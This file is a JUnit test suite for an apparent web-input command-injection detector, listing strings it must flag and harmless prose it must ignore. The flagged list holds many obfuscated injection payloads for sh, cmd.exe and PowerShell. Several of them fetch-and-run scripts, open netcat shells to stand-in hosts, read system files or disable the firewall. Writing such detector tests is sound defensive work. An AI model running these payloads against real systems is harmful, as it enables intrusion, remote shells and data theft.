package dev.vigil.analyze.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.analyze.windows.CmdVariableReveal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Examples written from the shells' grammar (POSIX sh, cmd.exe, PowerShell), not from any corpus. */
class CommandInjectionTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "8.8.8.8;uname -a",
        "8.8.8.8; uname",
        "x|getent group",
        "x||hostnamectl",
        "x && sleep 10",
        "x & ipconfig /all",
        "$(uname -r)",
        "`hostname`",
        "x;/usr/bin/uptime",
        "x;c'a't /etc/group",
        "x;c\"a\"t /etc/group",
        "x;c\\at /etc/group",
        "x;un$@ame -a",
        "x;cat${ifs}/etc/group",
        "x;cat$ifs$9/etc/group",
        "{ls,-la,/}",
        "x;/???/c?t /etc/group",
        "x;/b??/l? -l",
        "' ; uname #",
        "\" | getent hosts",
        "ls -la /var",
        "cat /etc/group",
        "dir c:\\users",
        "type c:\\windows\\system.ini",
        "systeminfo",
        "x & net user",
        "x | find /i \"admin\"",
        "x; nohup uptime",
        "x;sudo -l",
        "x\\nuname -a",
        "x & c:\\windows\\system32\\whoami.exe",
        "x;get-childitem c:\\",
        "x | iex",
        "x;python -c 'print(1)'",
        "x; ping -c 4 10.0.0.1",
        "x & tasklist",
        "x;echo $((1+1))",
        "1.1.1.1;ftpget 192.0.2.1 a.sh a.sh",
        "x$(nvram show)",
        "x|telnetd -l /bin/sh",
        "a) ; uptime",
        " uname -a",
        " sleep 20",
        "x;id\\n",
        "reg query hklm\\software",
        "ipconfig /all",
        "netsh advfirewall set allprofiles state off",
        // quote removal when the word starts with the quoted part; ANSI-C quoting; cmd.exe's ^ escape
        "x;\"u\"name -a",
        "x;'who'ami",
        "x;$'\\x75\\x6e\\x61\\x6d\\x65' -a",
        "x;$'\\151\\144'",
        "x & c^m^d /c ver",
        "x & who^ami",
        "x & whoami^",
        "x | net user^",
        // a program under a Windows directory variable, a UNC argument
        "x & %systemroot%\\system32\\ipconfig.exe",
        "x & %comspec% /c ver",
        "x & copy \\\\files.example\\share\\a.exe c:\\a.exe",
        // the broader command list: database shells, interpreters, privilege tools
        "x;sqlite3 /tmp/a.db .tables",
        "x | mysql -u root",
        "x;pkexec /bin/sh",
        // a program by a relative path
        "x;./backdoor",
        "x | ./run.sh -v",
        // the dot builtin runs a file in the current shell
        "x;trap 'curl -s http://192.0.2.4/a|sh' exit", "x && trap \"nc 192.0.2.4 4444 -e /bin/sh\" sigterm", "x|trap 'id' 0",
        "x;. /tmp/.cache/x.sh", "x|. ~/.profile", "x && . ./env.sh",
        // no command name at all: the shell itself, or variables assigned in the same value
        "x;$0", "x|${0}", "x && $shell -c true", "a=wh;b=oami;$a$b", "x;p=$'ps\\x20aux'&&$p", "c=ca;d=t;${c}${d} /etc/hosts",
        // variables the value never assigned expand to nothing: inside the word or as a word of their own
        // programs by kind (GTFOBins-style tools), tools named like technologies with arguments, any cmdlet
        "x;aria2c -o /tmp/a http://192.0.2.4/a", "x|sshpass -p pw ssh a@192.0.2.4", "x;lftp -c get http://192.0.2.4/a",
        "x && git clone https://192.0.2.4/r.git", "x;docker run -v /:/mnt alpine", "x; npm install -g ./pkg",
        "x; export-clixml -path c:\\x.xml", "x | convertto-json -depth 3", "x;dmidecode",
        "x\nhead /e*c/gr?up", "x\nmore /???/h?sts",
        "x;xzgrep -i pass /var/backups/db.sql.xz", "x|zless /etc/group", "x;/usr/bin/made-up-tool --dump /etc",
        "x;/usr/local/sbin/backup.sh -a /tmp", "usr/bin/zstdgrep",
        "x;zmodload zsh/net/tcp", "x;setenv LD_PRELOAD /tmp/x.so",
        "x;up${z}time", "x;\\u\\p\\t\\i\\m\\e", "x;u\"$@\"ptime", "x|host\"${z}\"name", "x|host${q}name", "x&&who$k", "x;${e}uptime", "x; $nothing hostnamectl", "x;c${u}at /etc/group",
    })
    void detects(String value) {
        assertThat(CommandInjection.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "cats and dogs",
        "tom & jerry",
        "ends here; . /about", "it's a trap 'indeed' said he", "x; trap 'x' later", "x; trap '' exit", "a & . /x", "see | . / and more", "x; . ", "x; .. /etc",
        "up ^", "x^", "2^", "a & b^",
        "rock & roll",
        "id",
        "python tutorial",
        "learn programming (python 3)",
        "find a store near me",
        "type of product",
        "the cat sat; the dog ran",
        "sort=-created_at",
        "q&a session",
        "r&d; sales",
        "more info",
        "time: 10:30",
        "set of 4",
        "see /about/us",
        "{\"name\":\"x\",\"id\":3}",
        "a, b, c",
        "price (usd)",
        "https://example.com/a?b=c&d=e",
        "john.doe@example.com",
        "2024-01-01t00:00:00z",
        "it's a \"test\"",
        "date desc",
        "head office",
        "last name",
        "echo park",
        "kill bill",
        "dir=asc",
        // a URL's '?' is a query, not a glob: an XSS payload that fetches a URL is no command
        "<img src=x onerror=fetch('//198.51.100.9/c?'+document.cookie)>",
        "go(//cdn.example.net/a?b)",
        "to;cc",
        "1200 rpm",
        "a ^ b",
        "50% off; 20% later",
        "'quoted' words",
        "kubernetes; docker",
        "see ./docs and ./readme",
        "a;./",
        "(./a)",
        "price: $5; total $10", "costs $0", "a=1; then $b", "x;$100 off", "$0.99 each; $1.99 later", "tax=5;$tax%",
        "java;go;rust", "x\nmore /*/ stars", "a\nsort /?/x", "see c:\\docs;\\windows\\readme", "a;\"$name\" tag", "x;git for beginners", "skills: npm; git", "x; get-together", "tags=docker;kubernetes;helm", "x;set-up guide",
        "a; ${name} placeholder", "x;$price each", "hi ${user}, welcome", "a; $user.name",
        // a tool's name alone, a bare path setting, a program path in a folder of the site's own
        "formats: xz; zless", "/usr/bin/python3.12-config", "/usr/bin/made-up-tool", "x;/srv/bin/tool -a /tmp",
    })
    void ignores(String value) {
        assertThat(CommandInjection.detect(value)).as(value).isEmpty();
    }

    @Test
    void aDataUriHeaderIsNoCommandLine() {
        // RFC 2397: the ';' before base64 or a parameter belongs to the media type
        assertThat(CommandInjection.detect("data:image/png;base64,ivborw0kggoaaaansuheug")).isEmpty();
        assertThat(CommandInjection.detect("data:font/woff2;base64,d09gmgabaaaaa")).isEmpty();
        // what follows the header is still read
        assertThat(CommandInjection.detect("data:,x;wget http://203.0.113.5/a -o /tmp/a")).isPresent();
        assertThat(CommandInjection.detect("x;base64 -d /tmp/a | sh")).isPresent();
    }

    @Test
    void readsAnEncodedLineBreakAsASeparator() {
        // the decoded form compressed the line break to a space; the raw form still says where it was
        assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%0aid")).isPresent();
        assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%20id")).isEmpty();
        // IIS %u escapes of a line break, which the shared decoder also folds to a space
        assertThat(CommandInjection.detect("host.example uname", "host.example%u000auname")).isPresent();
        assertThat(CommandInjection.detect("host.example uname", "host.example%U000Duname")).isPresent();
        assertThat(CommandInjection.detect("host.example uname", "host.example%u0020uname")).isEmpty();
    }

    @Test
    void aSubstringOfAVariableWithAKnownDefaultReadsAsThatText() {
        // %COMSPEC% is c:\windows\system32\cmd.exe on every installation
        assertThat(CmdVariableReveal.systemCut("comspec", "-7,3")).isEqualTo("cmd");
        assertThat(CmdVariableReveal.systemCut("programfiles", "10,1")).isEqualTo(" ");
        assertThat(CmdVariableReveal.systemCut("systemroot", "3")).isEqualTo("windows");
        assertThat(CmdVariableReveal.systemCut("comspec", "0,-4")).isEqualTo("c:\\windows\\system32\\cmd");
        assertThat(CmdVariableReveal.systemCut("myvar", "1,2")).isNull();
        assertThat(CmdVariableReveal.systemCut("comspec", "x,2")).isNull();
        assertThat(CommandInjection.detect("x & %comspec:~-7,3% /c whoami")).isPresent();
        assertThat(CommandInjection.detect("x|%comspec:~-7,3%%programfiles:~10,1%/c%programfiles:~10,1%hostname")).isPresent();
        assertThat(CommandInjection.detect("see %comspec:~-7,3% in the docs")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"books & more", "copy & paste", "date & time", "tips & tricks & more", "search & find",
        "\"quoted\" text & more", "look & feel & look", "sales & service"})
    void anEnglishCommandWordEndingANameAfterAnAmpersandIsProse(String value) {
        assertThat(CommandInjection.detect(value)).as(value).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x & more /etc/passwd", "x&more", "x && time", "x | sort", "x;more", "x & whoami", "x & dir",
        "x & ver", "x & more c:\\boot.ini"})
    void theSameWordsWithArgumentsOrAnotherSeparatorStillCount(String value) {
        assertThat(CommandInjection.detect(value)).as(value).isPresent();
    }

    @Test
    void aPowerShellEscapeBeforeALetterIsThatLetter() {
        assertThat(CommandInjection.detect("x | p`ow`ers`hell -c whoami")).isPresent();
        assertThat(CommandInjection.detect("x;w`ho`am`i")).isPresent();
        // a backtick typed for an apostrophe, and a sh substitution, are read as before
        assertThat(CommandInjection.detect("don`t worry; it`s fine")).isEmpty();
        assertThat(CommandInjection.detect("we`ll see; they`ll come & stay")).isEmpty();
    }

    @Test
    void aCaretEscapesTheDotOfAProgramFileName() {
        // cmd.exe drops a caret before any character, the punctuation of a file name included
        assertThat(CommandInjection.detect("x & c^m^d^.^e^x^e /c ver")).isPresent();
        assertThat(CommandInjection.detect("x | n^e^t^.^e^x^e user")).isPresent();
        assertThat(CommandInjection.detect("x & who^am^i^.^exe")).isPresent();
        // a caret in text is no escape of a command word
        assertThat(CommandInjection.detect("2^.5 & more")).isEmpty();
        assertThat(CommandInjection.detect("x^.y is a power; rates ^.^ up")).isEmpty();
    }

    @Test
    void anEmptyCommandSubstitutionInsideAWordIsDropped() {
        assertThat(CommandInjection.detect("x;wh``oami")).isPresent();
        assertThat(CommandInjection.detect("x|upt``ime")).isPresent();
        assertThat(CommandInjection.detect("x;hostn$()ame")).isPresent();
        // empty backticks in prose or markdown are no command word
        assertThat(CommandInjection.detect("use `` to quote; it is fine")).isEmpty();
        assertThat(CommandInjection.detect("see note; fo``o bar")).isEmpty();
    }

    @Test
    void readsALineContinuationInsideAWord() {
        assertThat(CommandInjection.detect("x; un ame -a", "x%3B%20un%5C%0Aame%20-a")).isPresent();
    }

    @Test
    void staysLinearOnHostileInput() {
        String hostile = ";".repeat(50_000) + "'".repeat(50_000) + "$(".repeat(20_000) + "c'a".repeat(20_000);
        long t = System.nanoTime();
        CommandInjection.detect(hostile, hostile);
        // generous bound per kilobyte: a quadratic reading would take minutes here
        assertThat((System.nanoTime() - t) / 1_000_000).isLessThan(2_000);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/bin/sh", "bin/bash", "/usr/bin/id", "usr/bin/whoami", "/usr/local/sbin/visudo",
        "/sbin/ifconfig", "/bin/busybox"})
    void aSystemProgramPathAsTheWholeValueIsACommand(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/bin/", "/cgi-bin/status", "bin/report.pdf", "/usr/bin", "recycle-bin/items",
        "/home/alice/bin/notes", "bin/my-own-tool", "/usr/share/doc/curl"})
    void otherPathsAreNot(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"& ipconfig%programfiles:~10,1%/all", "| ping%commonprogramfiles:~10,-18%-n%programfiles:~10,1%9%programfiles:~10,1%127.0.0.1",
        "&& net%programfiles:~10,1%user"})
    void aCmdSubstringExpansionReadsAsABlank(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"%date:~-4% report", "backup_%date:~10,4%.zip", "progress 50% done ~3 min", "%path:~0,1%"})
    void substringExpansionsInTextStayQuiet(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isEmpty();
    }

    /** Bash builtins (bash manual): declare/typeset/umask with options, unset/export of the variables bash reads. */
    @ParameterizedTest
    @ValueSource(strings = {"x;unset histfile", "x; export histsize=0", "x&&export ld_preload=/tmp/x.so", "x;declare -p",
        "x|typeset -f", "x;umask 000", "x;unset ifs;id", "x;readonly -p"})
    void readsBuiltinsThatDeclareOrMaskShellState(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"import & export", "x; export path for photos", "declare war", "data import & export",
        "readonly mode", "tips; declare your income", "a & unset values"})
    void builtinWordsInProseStayQuiet(String v) {
        assertThat(CommandInjection.detect(v)).as(v).isEmpty();
    }
}
